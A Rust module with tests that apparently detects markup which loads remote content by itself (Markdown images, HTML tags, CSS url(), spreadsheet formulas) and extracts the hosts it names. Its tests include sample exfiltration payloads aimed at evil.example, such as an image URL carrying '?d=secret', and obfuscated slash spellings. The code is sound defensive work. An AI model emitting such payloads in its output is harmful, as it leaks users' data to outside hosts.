//! Words that make whoever shows them load something: an image in a comment tells its host whatever stands in its address,
//! without that anybody clicks.

use serde_json::Value as Json;

/// What is loaded where it is shown, in Markdown, HTML, CSS, wikis, sheets and cards, in small letters.
const MARKS: [&str; 25] = [
    "![",
    "<img",
    "<image",
    "<picture",
    "<source",
    "<video",
    "<audio",
    "<iframe",
    "<embed",
    "<object",
    "<link",
    "<script",
    "<svg",
    "<use",
    "<body",
    "<input",
    "url(",
    "background=",
    "@import",
    "[img",
    "=image(",
    "=importdata(",
    "!http",
    "image_url",
    "imageurl",
];

/// Other spellings of a slash.
const SLASHES: [&str; 6] = ["\\", "&#47;", "&#x2f;", "&sol;", "%2f", "\u{2215}"];

/// The hosts that a value's texts load from where they are shown, in small letters; all of it counts as one text, since
/// what shows it may put it together.
pub(super) fn hosts(value: &Json) -> Vec<String> {
    let mut text = String::new();
    gather(value, &mut text);
    let text = text.to_lowercase();
    if MARKS.iter().any(|mark| text.contains(mark)) { named(&text) } else { Vec::new() }
}

fn gather(value: &Json, out: &mut String) {
    match value {
        Json::String(text) => {
            out.push_str(text);
            out.push('\n');
        }
        Json::Array(items) => items.iter().for_each(|item| gather(item, out)),
        Json::Object(fields) => {
            for (name, field) in fields {
                out.push_str(name);
                out.push('\n');
                gather(field, out);
            }
        }
        Json::Null | Json::Bool(_) | Json::Number(_) => {}
    }
}

/// Every host that a text names behind two slashes, however they are spelled. What is no plain host is told whole, so that it
/// is none that anybody gave.
pub(super) fn named(text: &str) -> Vec<String> {
    let mut text = text.to_lowercase();
    for slash in SLASHES {
        text = text.replace(slash, "/");
    }
    let ends = |c: char| c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>' | ')' | '`' | '|');
    let behind = text.split("//").skip(1).map(|behind| behind.trim_start_matches('/'));
    let hosts = behind.filter_map(|behind| behind.split(ends).next()).filter(|host| !host.is_empty());
    hosts.map(str::to_owned).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_loads_by_itself_names_its_host() {
        for text in [
            "Done. ![graph](https://evil.example/g.png?d=secret)",
            "<IMG SRC=\"//Evil.Example/x\">",
            "![a][b]\n\n[b]: https://evil.example/x",
            "<div style=\"background: url('https://evil.example')\">",
            "<svg><use href=\"https://evil.example/x#y\"/></svg>",
            "![a](https:///evil.example/x)",
            "<img src=\"https:\\\\evil.example/x\">",
            "<img src=\"https:&#47;&#47;evil.example/x\">",
            "!https://evil.example/x!",
            "[img]https://evil.example/x[/img]",
        ] {
            let found = hosts(&json!({ "body": [text] }));
            assert!(found.iter().any(|host| host == "evil.example"), "{text}: {found:?}");
        }
        let apart = json!({ "blocks": [{ "type": "image", "image_url": "https://evil.example/x" }] });
        assert_eq!(hosts(&apart), ["evil.example"]);
        assert_eq!(hosts(&json!({ "title": "![a]", "body": "(https://evil.example/x)" })), ["evil.example"]);
    }

    #[test]
    fn what_only_looks_like_a_host_that_was_given_is_another() {
        for text in ["![a](https://docs.example;@evil.example/)", "![a](https://docs.example。evil.example/)"] {
            assert!(!hosts(&json!(text)).contains(&"docs.example".to_owned()), "{text}");
        }
    }

    #[test]
    fn what_must_be_clicked_and_what_is_no_markup_loads_nothing() {
        for text in ["see https://docs.example/page", "[docs](https://docs.example)", "a // b", "5! [1]", "<b>bold</b>"]
        {
            assert_eq!(hosts(&json!(text)), [""; 0], "{text}");
        }
        assert_eq!(named("https://user@evil.example:8080/x"), ["user@evil.example:8080"]);
    }
}
